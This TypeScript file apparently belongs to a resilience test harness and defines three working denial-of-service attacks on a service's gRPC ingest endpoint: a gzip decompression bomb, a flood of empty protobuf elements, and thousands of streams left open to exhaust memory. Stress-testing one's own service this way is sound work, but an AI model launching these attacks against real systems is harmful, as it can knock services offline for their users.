/** Attacks on the gRPC port of a worker. */
import { type ClientHttp2Session, connect } from 'node:http2'
import { connect as connectTcp } from 'node:net'
import { gzipSync } from 'node:zlib'
import type { Attack, Target } from './attack.ts'

const CAPTURE_BATCH = '/sluice.v1.IngestService/CaptureBatch'
/** Bytes of two: an empty element of field 1. */
const EMPTY_ELEMENT = [0x0a, 0x00]
const ELEMENTS = 16_000_000
/** Largest length that a message may announce. */
const BATCH_BYTES = 4 * 1_048_576
const PIECE_BYTES = 1_048_576

type Session = {
  /** Opens a call. `answer` is its status, else how it ended. */
  readonly call: (headers: Readonly<Record<string, string>>) => {
    readonly write: (bytes: Uint8Array) => void
    readonly finish: (bytes: Uint8Array) => void
    readonly answer: Promise<string>
  }
  readonly end: () => void
}

/** Calls from a stranger's address; a connection that was cut is made anew by the next call. */
function createSession({ host, grpcPort, from }: Target): Session {
  let session: ClientHttp2Session | undefined
  const open = () => {
    if (session !== undefined && !session.closed && !session.destroyed) return session
    session = connect(`http://${host}:${grpcPort}`, {
      maxSessionMemory: 1_000,
      createConnection: () => connectTcp({ host, port: grpcPort, localAddress: from }).setNoDelay(),
    })
    session.on('error', () => {
      // Its calls end with it.
    })
    return session
  }
  return {
    call(headers) {
      const stream = open().request(
        {
          ':method': 'POST',
          ':path': CAPTURE_BATCH,
          'content-type': 'application/grpc',
          te: 'trailers',
          ...headers,
        },
        { endStream: false },
      )
      let said = 'cut'
      const read = (given: Readonly<Record<string, unknown>>) => {
        if (given['grpc-status'] !== undefined) said = `status ${given['grpc-status']}`
      }
      stream.on('response', read).on('trailers', read).resume()
      stream.on('error', () => {
        // `close` follows.
      })
      const answer = new Promise<string>((resolve) => stream.on('close', () => resolve(said)))
      return {
        write: (bytes) => void stream.write(bytes),
        finish: (bytes) => void stream.end(bytes),
        answer,
      }
    },
    end: () => session?.destroy(),
  }
}

function framed(message: Uint8Array, flag: number, length = message.length): Buffer {
  const head = Buffer.alloc(5)
  head.writeUInt8(flag, 0)
  head.writeUInt32BE(length, 1)
  return Buffer.concat([head, message])
}

const inflated: Attack = {
  name: 'gRPC: 16 M empty messages in 31 kB, no key',
  openMax: 64,
  async prepare(target) {
    const { call, end } = createSession(target)
    const bomb = framed(gzipSync(Buffer.alloc(2 * ELEMENTS, Buffer.from(EMPTY_ELEMENT))), 1)
    const strike = () => {
      const { finish, answer } = call({ 'grpc-encoding': 'gzip' })
      finish(bomb)
      return answer
    }
    return { strike, end }
  },
}

const elements: Attack = {
  name: 'gRPC: 2 M empty messages in 4 MiB, with a key',
  openMax: 64,
  async prepare(target) {
    const { call, end } = createSession(target)
    const body = framed(Buffer.alloc(BATCH_BYTES - 100, Buffer.from(EMPTY_ELEMENT)), 0)
    const strike = () => {
      const { finish, answer } = call({ authorization: `Bearer ${target.project.apiKey}` })
      finish(body)
      return answer
    }
    return { strike, end }
  },
}

const unfinished: Attack = {
  name: 'gRPC: streams that never end',
  openMax: 2_000,
  async prepare(target) {
    const { call, end } = createSession(target)
    const piece = framed(Buffer.alloc(PIECE_BYTES), 0, BATCH_BYTES)
    const strike = () => {
      const { write, answer } = call({ authorization: `Bearer ${target.project.apiKey}` })
      write(piece)
      return answer
    }
    return { strike, end }
  },
}

export const GRPC_ATTACKS: readonly Attack[] = [inflated, elements, unfinished]
